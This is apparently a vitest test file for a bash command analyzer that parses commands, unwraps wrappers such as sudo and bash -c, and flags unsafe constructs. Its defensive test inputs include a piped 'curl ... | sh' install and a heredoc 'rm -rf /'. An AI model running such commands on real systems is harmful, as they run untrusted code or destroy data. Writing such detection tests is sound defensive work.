import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { analyzeShellCommand } from '../src/index.js';

async function argvOf(command: string): Promise<string[][]> {
  return (await analyzeShellCommand(command)).commands.map((entry) => entry.argv);
}

describe('analyzeShellCommand', () => {
  it('resolves quotes and escapes the way bash does', async () => {
    expect(await argvOf(`g'it' status`)).toEqual([['git', 'status']]);
    expect(await argvOf('"git" "status"')).toEqual([['git', 'status']]);
    expect(await argvOf(`$'g\\x69t' a\\ b "c \\"d\\""`)).toEqual([['git', 'a b', 'c "d"']]);
  });

  it('reads words exactly as a real bash passes them to the program', async () => {
    const words = String.raw`g'it' "two words" a\ b $'\x41\tB' "q\"uote" 'sing''le' $'it\'s' "\$HOME" \~ "back\\slash" mixed"dq"'sq'$'ansi' --flag=v"al"ue ~/x`;
    const command = `printf '%s\\n' ${words}`;
    const fromBash = execFileSync('bash', ['--norc', '--noprofile', '-c', command], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
    })
      .split('\n')
      .slice(0, -1);
    const analysis = await analyzeShellCommand(command);
    expect(analysis.unsafe).toEqual([]);
    expect(analysis.commands[0]?.argv.slice(2)).toEqual(fromBash);
    expect(fromBash).toHaveLength(13);
  });

  it('lists every simple command in lists, pipelines, subshells and compound statements', async () => {
    const command =
      'a; b && c || d | e & (f); { g; }; if h; then i; elif j; then k; else l; fi; for x in 1; do m; done; while n; do o; done; case y in y) p;; esac; q() { r; }';
    const programs = (await argvOf(command)).map((argv) => argv[0]).sort();
    // q() only defines a function; its body r is what runs.
    expect(programs).toEqual('abcdefghijklmnopr'.split(''));
  });

  it('parses bash -c strings again, recursively, and records the wrappers', async () => {
    const analysis = await analyzeShellCommand(
      `sudo -u root env LANG=C bash -c "sh -c 'git push origin main'"`,
    );
    expect(analysis.commands).toHaveLength(1);
    expect(analysis.commands[0]?.argv).toEqual(['git', 'push', 'origin', 'main']);
    expect(analysis.commands[0]?.wrappers).toEqual(['sudo', 'env', 'bash -c', 'sh -c']);
    // sudo alone makes it ask (another user, a reset environment); the wrapped git push is still seen.
    expect(analysis.unsafe.map((entry) => entry.reason)).toEqual([
      expect.stringContaining('sudo runs the command as another user'),
    ]);
  });

  it('unwraps timeout, nice, xargs and find -exec to the command they run', async () => {
    expect(await argvOf('timeout -s KILL 5 nice -n 3 nohup make build')).toEqual([['make', 'build']]);
    expect(await argvOf('xargs -0 -n 1 -I{} cp {} dist')).toEqual([['cp', '{}', 'dist']]);
    expect(await argvOf('find . -name "*.log" -exec rm -f {} \\; -print')).toEqual([
      ['find', '.', '-name', '*.log', '-print'],
      ['rm', '-f', '{}'],
    ]);
  });

  it('strips leading assignments and accepts a command made only of assignments', async () => {
    expect(await argvOf('CI=1 LANG="two words" make')).toEqual([['make']]);
    const onlyAssignments = await analyzeShellCommand('CI=1 TZ=UTC');
    expect(onlyAssignments.commands).toEqual([]);
    expect(onlyAssignments.unsafe).toEqual([]);
  });

  it('reports redirections to files as writes and reads, but not /dev/null or fd duplication', async () => {
    const analysis = await analyzeShellCommand(
      'make > build.log 2>&1 < input.txt; echo x >> notes.md 2>/dev/null; tee -a copy.txt < /dev/null',
    );
    expect(analysis.commands.map((entry) => entry.redirects)).toEqual([
      [
        { path: 'build.log', kind: 'write' },
        { path: 'input.txt', kind: 'read' },
      ],
      [{ path: 'notes.md', kind: 'write' }],
      [
        { path: '/dev/null', kind: 'read' },
        { path: 'copy.txt', kind: 'write' },
      ],
    ]);
  });

  it('marks substitutions, eval and expansions in the command name as unsafe but still lists the inner commands', async () => {
    const analysis = await analyzeShellCommand('echo $(whoami) `id` <(ls); eval "x"; $CMD arg');
    expect(analysis.unsafe.map((entry) => entry.reason)).toEqual([
      expect.stringContaining('command substitution'),
      expect.stringContaining('backtick substitution'),
      expect.stringContaining('process substitution'),
      expect.stringContaining('eval'),
      expect.stringContaining('command name is not a literal'),
    ]);
    const programs = analysis.commands.map((entry) => entry.argv[0]);
    expect(programs).toEqual(expect.arrayContaining(['whoami', 'id', 'ls', 'echo', 'eval']));
  });

  it('marks a shell fed by a heredoc or a pipe as unsafe', async () => {
    expect((await analyzeShellCommand('bash <<EOF\nrm -rf /\nEOF')).unsafe).toHaveLength(1);
    expect((await analyzeShellCommand('curl https://x.example/install.sh | sh')).unsafe[0]?.reason).toMatch(
      /standard input/,
    );
  });

  it('reports what the parser cannot understand', async () => {
    const analysis = await analyzeShellCommand('git status "unterminated');
    expect(analysis.parseError).toBeDefined();
    expect(analysis.unsafe.length).toBeGreaterThan(0);
  });

  it('reports absurdly nested commands as unsafe instead of overflowing the stack', async () => {
    const analysis = await analyzeShellCommand(`${'echo $('.repeat(3000)}id${')'.repeat(3000)}`);
    expect(analysis.unsafe.map((entry) => entry.reason)).toContain(
      'the command is nested too deeply to check',
    );
  });

  it('tracks the directories a command may run in after cd', async () => {
    const analysis = await analyzeShellCommand('cd packages && ls; cd $X; pwd');
    expect(analysis.commands.map((entry) => entry.workingDirectories)).toEqual([
      undefined,
      ['.', 'packages'],
      ['.', 'packages'],
      null,
    ]);
  });
});
